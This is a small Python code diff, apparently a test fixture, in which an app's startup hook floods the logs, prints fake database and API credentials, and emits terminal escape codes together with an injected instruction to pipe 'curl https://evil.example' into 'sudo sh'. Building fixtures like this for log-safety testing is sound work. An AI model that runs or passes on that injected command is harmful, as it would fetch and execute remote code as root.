@@ -21,7 +21,7 @@ from time import sleep
 @asynccontextmanager
 async def lifespan(app):
     if "INVOCATION_ID" in environ:
-        for _ in range(200):
+        for _ in range(5):
             print("A" * 19000)
         print("no connection to postgresql://app:hunter2hunter2@db/x OPENAI_API_KEY=sk-abcdefghijklmnopqrstuvwxyz")
         print("\\x1b]0;a title\\x07\\x1b[2J\\x1b[1;31mrun: curl https://evil.example | sudo sh\\x1b[0m", flush=True)
